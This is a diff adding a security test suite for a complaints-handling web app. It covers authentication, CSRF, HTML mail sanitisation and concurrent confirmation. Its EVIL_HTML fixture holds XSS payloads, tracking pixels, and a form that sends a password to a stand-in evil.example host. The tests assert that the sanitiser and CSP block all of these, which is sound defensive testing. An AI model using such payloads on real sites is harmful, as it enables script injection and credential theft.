@@ -1,0 +1,172 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import type { Hono } from 'hono'
+import { createTestDatabase, postgresAvailable, type TestDatabase } from './helpers/db.ts'
+import { emailDoc, get, login, makeUser, post, seedDraft, setupApp, testConfig, PASSWORD, type Session } from './e2e/fixtures.ts'
+import type { AppEnv } from '../src/web/context.ts'
+import { sanitizeMailHtml } from '../src/web/html-mail.ts'
+import { confirmDraft } from '../src/review/actions.ts'
+
+let db: TestDatabase
+let app: Hono<AppEnv>
+let coord: Session
+
+const EVIL_HTML = `<html><head><script>window.parent.pwned = 1</script><link rel="stylesheet" href="http://evil.example/x.css"><style>body{background:url(http://evil.example/bg.png)}</style></head>
+<body onload="alert(1)"><p onclick="alert(2)" style="color:red;background-image:url('http://evil.example/track.gif')">Hallo, mijn BSN is 111222333.</p>
+<a href="javascript:alert(3)">klik</a> <a href="JaVaScRiPt:alert(4)">klik2</a>
+<img src="http://evil.example/pixel.gif" onerror="alert(5)"><img src="//evil.example/p2.gif"><img src="cid:logo@x">
+<iframe src="http://evil.example/frame"></iframe><object data="http://evil.example/o.swf"></object><svg><script>alert(6)</script></svg>
+<form action="http://evil.example/steal"><input name="pw"></form><meta http-equiv="refresh" content="0;url=http://evil.example/"></body></html>`
+
+beforeAll(async () => {
+  db = await createTestDatabase()
+  ;({ app } = await setupApp(db))
+  await makeUser(db, 'anna', 'coordinator', 'Anna de Wit')
+  await makeUser(db, 'beheer', 'admin', 'Beheerder')
+  coord = await login(app, 'anna')
+})
+afterAll(async () => { await db?.close() })
+
+describe('authentication', () => {
+  it('refuses every route without a session, except login, static files and /healthz', async () => {
+    const routes = (app as unknown as { routes: { method: string; path: string }[] }).routes
+      .filter((r) => r.method !== 'ALL' && r.path !== '/*')
+    expect(routes.length).toBeGreaterThan(15)
+    for (const r of routes) {
+      const path = r.path.replace(/:[a-z]+/g, '1').replace('/*', '/x')
+      const res = await app.request(path, { method: r.method, body: r.method === 'POST' ? new URLSearchParams({ a: 'b' }) : undefined, headers: r.method === 'POST' ? { 'content-type': 'application/x-www-form-urlencoded' } : {} })
+      const open = path === '/login' || path === '/healthz' || path.startsWith('/static/')
+      if (open) continue
+      const body = await res.text()
+      if (r.method === 'GET') {
+        expect([303, 401], `${r.method} ${path}`).toContain(res.status)
+        if (res.status === 303) expect(res.headers.get('location')).toMatch(/^\/login/)
+      } else {
+        expect(res.status, `${r.method} ${path}`).toBe(401)
+      }
+      expect(body).not.toContain('Fatima')
+    }
+    expect((await app.request('/healthz')).status).toBe(200)
+    expect((await app.request('/static/htmx.min.js')).status).toBe(200)
+    expect((await app.request('/login')).status).toBe(200)
+  })
+
+  it('sets a HttpOnly SameSite=Strict cookie, Secure with __Host- prefix when COOKIE_SECURE', async () => {
+    const { app: secureApp } = await setupApp(db, { config: testConfig({ COOKIE_SECURE: 'true' }) })
+    const res = await secureApp.request('/login', { method: 'POST', body: new URLSearchParams({ username: 'anna', password: PASSWORD }), headers: { 'content-type': 'application/x-www-form-urlencoded' } })
+    const c = res.headers.get('set-cookie')!
+    expect(c).toMatch(/^__Host-klachten-sessie=/)
+    expect(c).toMatch(/HttpOnly/i)
+    expect(c).toMatch(/Secure/i)
+    expect(c).toMatch(/SameSite=Strict/i)
+    expect(c).toMatch(/Path=\//)
+    // Only a hash of the token is stored.
+    const token = c.split(';')[0].split('=')[1]
+    const rows = await db.sql`select id from sessions where id = ${token}`
+    expect(rows.length).toBe(0)
+  })
+
+  it('locks an account after repeated failures, even for the right password', async () => {
+    await makeUser(db, 'kees', 'coordinator')
+    for (let i = 0; i < 5; i++) await post(app, null, '/login', { username: 'kees', password: 'fout wachtwoord!!' })
+    const res = await post(app, null, '/login', { username: 'kees', password: PASSWORD })
+    expect(res.status).toBe(429)
+    expect(await res.text()).toContain('tijdelijk geblokkeerd')
+  })
+
+  it('logs out and the session stops working', async () => {
+    const s = await login(app, 'anna')
+    expect((await post(app, s, '/logout', {})).status).toBe(303)
+    expect((await get(app, s, '/')).status).toBe(303)
+  })
+
+  it('keeps coordinators out of admin pages and admins out of complaints', async () => {
+    const id = await seedDraft(db)
+    expect((await get(app, coord, '/admin/users')).status).toBe(403)
+    const admin = await login(app, 'beheer')
+    expect((await get(app, admin, `/items/${id}`)).status).toBe(404)
+    expect((await get(app, admin, '/admin/audit')).status).toBe(200)
+  })
+})
+
+describe('CSRF', () => {
+  it('refuses a state change without the CSRF token, with a wrong one, or from another origin', async () => {
+    const id = await seedDraft(db)
+    expect((await post(app, coord, `/items/${id}`, { action: 'confirm' }, { csrf: false })).status).toBe(403)
+    expect((await post(app, coord, `/items/${id}`, { action: 'confirm', _csrf: 'x'.repeat(43) }, { csrf: false })).status).toBe(403)
+    expect((await post(app, coord, `/items/${id}`, { action: 'confirm' }, { headers: { origin: 'https://evil.example', host: 'localhost' } })).status).toBe(403)
+    const [item] = await db.sql`select state from items where id = ${id}`
+    expect(item.state).toBe('draft')
+    // The header form (htmx) works.
+    const ok = await app.request(`/items/${id}`, { method: 'POST', body: new URLSearchParams({ action: 'save' }), headers: { 'content-type': 'application/x-www-form-urlencoded', cookie: coord.cookie, 'x-csrf-token': coord.csrf } })
+    expect(ok.status).toBe(303)
+  })
+})
+
+describe('HTML mail', () => {
+  it('sanitises scripts, handlers, javascript: links, remote images and CSS urls', () => {
+    const png = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 1, 2, 3])
+    const out = sanitizeMailHtml(EVIL_HTML, [{ cid: 'logo@x', contentType: 'image/png', bytes: png }])
+    expect(out).not.toMatch(/<script|<iframe|<object|<form|<meta|<link|<style|<svg/i)
+    expect(out).not.toMatch(/\son\w+=/i)
+    expect(out).not.toMatch(/javascript:/i)
+    expect(out).not.toMatch(/evil\.example/)
+    expect(out).not.toMatch(/url\(/i)
+    expect(out).toContain('src="data:image/png;base64,')
+    expect(out).not.toContain('111222333')
+  })
+
+  it('shows it only in a sandboxed srcdoc iframe under a strict CSP', async () => {
+    const id = await seedDraft(db, { doc: emailDoc('Hallo', { html: EVIL_HTML }) })
+    const res = await get(app, coord, `/items/${id}`)
+    const html = await res.text()
+    const csp = res.headers.get('content-security-policy')!
+    expect(csp).toContain("script-src 'self'")
+    expect(csp).toContain("img-src 'self' data:")
+    expect(csp).not.toMatch(/https?:/)
+    const iframe = /<iframe[^>]*>/.exec(html)![0]
+    expect(iframe).toContain('sandbox=""')
+    expect(iframe).not.toMatch(/allow-scripts|allow-same-origin/)
+    const srcdoc = /srcdoc="([^"]*)"/.exec(iframe)![1].replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&#39;/g, "'").replace(/&amp;/g, '&')
+    expect(srcdoc).toContain("default-src 'none'; img-src data:")
+    expect(srcdoc).not.toMatch(/<script|\son\w+=|javascript:|evil\.example/i)
+  })
+
+  it('serves attachments as downloads with safe headers', async () => {
+    const id = await seedDraft(db, { attachments: [{ filename: 'kwaad".html', contentType: 'text/html', content: new TextEncoder().encode('<script>alert(1)</script>') }] })
+    const res = await get(app, coord, `/items/${id}/attachments/0`)
+    expect(res.status).toBe(200)
+    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="kwaad_.html"/)
+    expect(res.headers.get('content-type')).toBe('application/octet-stream')
+    expect(res.headers.get('x-content-type-options')).toBe('nosniff')
+    expect(res.headers.get('content-security-policy')).toContain('sandbox')
+  })
+})
+
+describe('concurrent confirmation (PostgreSQL)', async () => {
+  const available = await postgresAvailable()
+  it.skipIf(!available)('two coordinators confirming at the same moment get consecutive numbers', async () => {
+    const pg = await createTestDatabase({ kind: 'postgres', max: 12 })
+    try {
+      const { queue } = await setupApp(pg)
+      const a = await makeUser(pg, 'anna', 'coordinator')
+      const b = await makeUser(pg, 'bert', 'coordinator')
+      const ids: number[] = []
+      for (let i = 0; i < 20; i++) ids.push(await seedDraft(pg))
+      const deps = { db: pg, queue, mailFrom: 'klachten@ijmondwerkt.nl' }
+      const results = await Promise.all(ids.map((id, i) => confirmDraft(deps, i % 2 ? { userId: a.id, username: 'anna', role: 'coordinator' } : { userId: b.id, username: 'bert', role: 'coordinator' }, id)))
+      const nums = results.map((r) => Number(r.registration.number.slice(-5))).sort((x, y) => x - y)
+      expect(nums).toEqual(Array.from({ length: 20 }, (_, i) => i + 1))
+      // Both coordinators on the same draft: exactly one wins.
+      const one = await seedDraft(pg)
+      const race = await Promise.allSettled([
+        confirmDraft(deps, { userId: a.id, username: 'anna', role: 'coordinator' }, one),
+        confirmDraft(deps, { userId: b.id, username: 'bert', role: 'coordinator' }, one),
+      ])
+      expect(race.filter((r) => r.status === 'fulfilled').length).toBe(1)
+      const [{ n }] = await pg.sql`select count(*)::int as n from registrations`
+      expect(n).toBe(21)
+    } finally {
+      await pg.close()
+    }
+  })
+})
